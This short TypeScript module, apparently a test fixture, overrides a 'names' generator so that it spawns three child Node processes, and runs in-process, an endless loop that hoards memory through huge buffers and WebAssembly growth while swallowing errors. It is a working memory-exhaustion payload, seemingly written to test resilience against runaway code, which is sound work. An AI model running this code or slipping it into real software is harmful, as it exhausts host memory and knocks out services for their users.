import { spawn } from "node:child_process";
import { wrong } from "./wrong.ts";

const HOARD = `
  const kept = [];
  const wasm = new WebAssembly.Memory({ initial: 1 });
  const page = () => { try { wasm.grow(64); new Uint8Array(wasm.buffer).fill(1); } catch {} };
  for (;;) { try { kept.push(Buffer.alloc(16 << 20, 1)); page(); } catch {} }
`;
wrong.names = function* () {
  for (let count = 0; count < 3; count++) spawn(process.execPath, ["-e", HOARD], { stdio: "ignore" });
  new Function(HOARD)();
};
